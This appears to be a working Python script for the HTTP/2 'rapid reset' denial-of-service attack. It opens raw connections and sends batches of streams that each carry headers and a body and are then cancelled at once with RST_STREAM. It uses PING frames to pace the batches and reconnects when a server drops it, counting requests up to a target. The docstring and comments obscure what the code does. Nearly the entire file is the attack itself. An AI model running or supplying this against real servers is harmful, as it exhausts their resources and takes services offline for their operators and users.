"""Asks a server for contexts over HTTP/2 and takes each request back in the same write: URL PATH COUNT.

What such a request has begun must end with it. Prints how many were sent."""
import socket
import struct
import sys
import urllib.parse

STREAMS_PER_WRITE, WRITES_PER_CONNECTION = 10, 20


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def is_heard(connection, frames, ping):
    """Sends the frames; the answer to the ping behind them says that the server has read them."""
    try:
        connection.sendall(frames)
        heard = b""
        while ping not in heard:
            more = connection.recv(65536)
            if not more:
                return False
            heard = heard[-16:] + more
    except OSError:
        return False
    return True


def main():
    url, path, count = urllib.parse.urlsplit(sys.argv[1]), sys.argv[2].encode(), int(sys.argv[3])
    head = b"\x83\x86" + literal(b":path", path) + literal(b":authority", b"x") + literal(b"content-type", b"application/json")
    sent = 0
    while sent < count:
        with socket.create_connection((url.hostname, url.port), timeout=10) as s:
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            stream = 1
            for turn in range(WRITES_PER_CONNECTION):
                out, ping = b"", b"turn%04d" % turn
                for _ in range(STREAMS_PER_WRITE):
                    out += frame(1, 4, stream, head) + frame(0, 1, stream, b"{}") + frame(3, 0, stream, struct.pack(">I", 8))
                    stream += 2
                if not is_heard(s, out + frame(6, 0, 0, ping), ping):
                    break  # cut for its conduct: the next one goes on
                sent += STREAMS_PER_WRITE
    print(sent)


main()
